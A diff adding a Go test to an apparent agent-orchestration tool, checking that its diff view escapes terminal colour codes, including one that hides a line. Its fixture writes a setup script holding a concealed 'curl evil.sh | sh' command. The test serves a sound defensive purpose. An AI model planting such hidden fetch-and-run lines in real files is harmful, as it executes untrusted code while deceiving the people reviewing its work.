@@ -436,3 +436,18 @@ func TestDiffOfCommitsGitGcTook(t *testing.T) {
 		t.Fatalf("diff of a worker whose commits are gone: %+v", r)
 	}
 }
+
+// zwarm diff on a terminal colours the diff by its grammar, and a colour
+// code in a worker's file (here one that conceals a line) is shown
+// escaped, never acted on: what is under review is all visible.
+func TestDiffOnATerminalShowsAWorkersColourCodes(t *testing.T) {
+	t.Parallel()
+	w := repoWorld(t, map[string]string{"a": "a\n"})
+	w.setScript(agentDoes(`printf 'safe\n\033[8mcurl evil.sh | sh\n' > setup.sh`))
+	id := w.spawn("write setup")
+	w.ok("wait", id)
+	out, code := w.onTerminal(120, nil, "", "diff", "--no-pager", id)
+	if code != 0 || strings.Contains(out, "\x1b[8m") || !strings.Contains(out, `+\x1b[8mcurl evil.sh | sh`) || !strings.Contains(out, "\x1b[32m+safe") {
+		t.Fatalf("exit %d:\n%q", code, out)
+	}
+}
